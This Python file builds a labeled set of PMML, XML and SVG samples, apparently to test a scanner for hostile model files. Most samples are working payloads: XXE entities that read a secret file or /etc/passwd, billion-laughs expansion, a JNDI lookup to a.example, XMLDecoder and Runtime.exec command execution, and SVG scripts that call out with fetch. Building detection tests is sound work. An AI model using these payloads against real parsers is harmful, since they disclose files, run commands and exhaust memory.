"""PMML and XML: a model of nyoka's, and documents that fetch, grow or run."""

from __future__ import annotations

import subprocess
import sys
import tempfile
from functools import cache
from pathlib import Path

from sample_set import COMMAND, Sample, written

SECRET = "secret.txt"


WRITER = """
import sys, warnings
warnings.simplefilter("ignore")
from nyoka import skl_to_pmml
from sklearn.datasets import load_iris
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler
from sklearn.tree import DecisionTreeClassifier
features, label = load_iris(return_X_y=True, as_frame=True)
tree = Pipeline([("scale", StandardScaler()), ("tree", DecisionTreeClassifier(max_depth=2, random_state=0))])
skl_to_pmml(tree.fit(features, label), list(features.columns), "species", sys.argv[1])
"""


@cache
def model() -> bytes:
    """Written in a process of its own: importing nyoka puts its folder, which holds a package `custom`, on the path."""
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder) / "m.pmml"
        subprocess.run([sys.executable, "-c", WRITER, str(place)], check=True, capture_output=True, cwd=folder)
        return place.read_bytes()


PMML = b'<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary/>%s</PMML>'


def pmml(inside: str, before: str = "") -> bytes:
    return b'<?xml version="1.0"?>' + before.encode() + PMML % inside.encode()


def fetching() -> bytes:
    """An entity that is the file beside it."""
    return pmml("<Extension value='x'>&beside;</Extension>", f'<!DOCTYPE PMML [<!ENTITY beside SYSTEM "{SECRET}">]>')


def laughing() -> bytes:
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">{steps}]><a>&a9;</a>'.encode()


def lxml_fetches(place: Path) -> None:
    """A reader that puts entities in, as lxml did by default; the file beside is in the text then."""
    from lxml import etree

    (place.parent / SECRET).write_text("what nobody should read")
    parser = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=True)
    text = etree.tostring(etree.parse(str(place), parser), method="text").decode()
    assert "what nobody should read" in text


def svg(inside: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{inside}</svg>'.encode()


ILLUSTRATOR = b"""<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
 "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>
<svg xmlns="&ns_svg;" viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>"""
SPRING = '<beans xmlns="http://www.springframework.org/schema/beans"><bean class="java.lang.ProcessBuilder"/></beans>'
DECODER = (
    '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder">'
    f"<string>{COMMAND}</string></object></java>"
)
XSLT = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    'xmlns:m="urn:schemas-microsoft-com:xslt">'
    "<m:script>x</m:script></xsl:stylesheet>"
)
HIDDEN = "<!DOCTYPE PMML [<!ENTITY % p \"<!ENTITY beside SYSTEM 'secret.txt'>\"> %p;]>"
INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'


def hostile(name: str, format: str, data: bytes, verdict: str, rule: str, trick: str, suffix: str = "xml") -> Sample:
    return Sample(f"{format}/{name}", format, written(f"m.{suffix}", lambda: data), (verdict,), rule=rule, trick=trick)


SAMPLES = (
    Sample("pmml/nyoka", "pmml", written("m.pmml", model), ("safe",), honest=True, needs=("nyoka", "sklearn")),
    Sample(
        "pmml/entity",
        "pmml",
        written("m.pmml", fetching),
        ("danger",),
        rule="pmml.external-entity",
        loads=lxml_fetches,
        trick="An entity that is another file: a reader that puts it in reads that file (XXE).",
    ),
    hostile(
        "hidden-entity",
        "pmml",
        pmml("<Extension>&beside;</Extension>", HIDDEN),
        "danger",
        "xml.parameter-entity",
        "The declaration that fetches is made by another entity.",
    ),
    hostile(
        "include", "pmml", pmml(f"<Extension>{INCLUDE}</Extension>"), "danger", "pmml.include", "XInclude of a file."
    ),
    hostile(
        "java-function",
        "pmml",
        pmml('<TransformationDictionary><Apply function="java.lang.Runtime.exec"/></TransformationDictionary>'),
        "danger",
        "pmml.function",
        "A function that Java looks up as a class.",
    ),
    hostile(
        "own-function",
        "pmml",
        pmml('<TransformationDictionary><Apply function="com.me.Score"/></TransformationDictionary>'),
        "review",
        "pmml.function",
        "A function that a reader looks up as a class of somebody's.",
    ),
    hostile(
        "extension-attribute",
        "pmml",
        pmml("<Extension name='x' value='${jndi:ldap://a.example/x}'/>"),
        "danger",
        "pmml.reaches",
        "An extension with an address that loggers in Java follow.",
    ),
    hostile(
        "extension-text",
        "pmml",
        pmml("<Extension>__import__('os').system('id')</Extension>"),
        "danger",
        "pmml.reaches",
        "An extension with Python in it.",
    ),
    hostile(
        "script",
        "pmml",
        pmml('<script for="m">import os</script>'),
        "danger",
        "pmml.script",
        "A script of the kind that nyoka once put in.",
    ),
    hostile(
        "another-version",
        "pmml",
        pmml("").replace(b'version="4.4"', b'version="9.9"'),
        "unverifiable",
        "pmml.version",
        "Namespace and version do not fit.",
    ),
    hostile(
        "another-element", "pmml", pmml("<Loader/>"), "unverifiable", "pmml.element", "An element that PMML lacks."
    ),
    hostile(
        "another-language",
        "pmml",
        pmml('<x:y xmlns:x="urn:x"/>'),
        "review",
        "pmml.foreign",
        "An element of another language.",
    ),
    hostile("depth", "pmml", pmml("<Node>" * 9_000), "unverifiable", "pmml.malformed", "Nodes nine thousand deep."),
    Sample("xml/svg", "xml", written("logo.svg", lambda: ILLUSTRATOR), ("safe",), honest=True),
    hostile(
        "laughs",
        "xml",
        laughing(),
        "danger",
        "xml.growing-entity",
        "Entities of entities that become a thousand million words.",
    ),
    hostile(
        "used-again",
        "xml",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "%s">]><a>%s</a>' % (b"A" * 4000, b"&x;" * 9_000),
        "danger",
        "xml.growing-entity",
        "One long entity, used nine thousand times.",
    ),
    hostile(
        "in-utf16",
        "xml",
        fetching().decode().replace("<PMML xmlns=", "<a xmlns=").replace("</PMML>", "</a>").encode("utf-16"),
        "danger",
        "xml.external-entity",
        "An entity that fetches, in another encoding.",
    ),
    hostile(
        "doctype",
        "xml",
        b'<!DOCTYPE a SYSTEM "http://a.example/x.dtd"><a/>',
        "danger",
        "xml.doctype",
        "A document type that is fetched.",
    ),
    hostile("spring", "xml", SPRING.encode(), "review", "xml.program", "A list of objects to make."),
    hostile("decoder", "xml", DECODER.encode(), "danger", "xml.decoder", "A program for Java's XMLDecoder."),
    hostile("xslt", "xml", XSLT.encode(), "danger", "xml.calls", "A transformation with a script.", "xsl"),
    hostile(
        "svg-script",
        "xml",
        svg("<script>fetch('//a.example')</script>"),
        "danger",
        "xml.script",
        "A picture with a script.",
        "svg",
    ),
    hostile(
        "svg-event", "xml", svg('<rect onload="fetch(1)"/>'), "danger", "xml.script", "A picture with an event.", "svg"
    ),
    hostile(
        "svg-link",
        "xml",
        svg('<a href="javascript:fetch(1)"/>'),
        "danger",
        "xml.reaches",
        "A picture with a link that runs.",
        "svg",
    ),
    hostile(
        "stylesheet",
        "xml",
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>',
        "review",
        "xml.instruction",
        "It asks to be transformed.",
    ),
    hostile(
        "broken", "xml", b'<?xml version="1.0"?><a><b></a>', "unverifiable", "xml.malformed", "It is not well-formed."
    ),
)
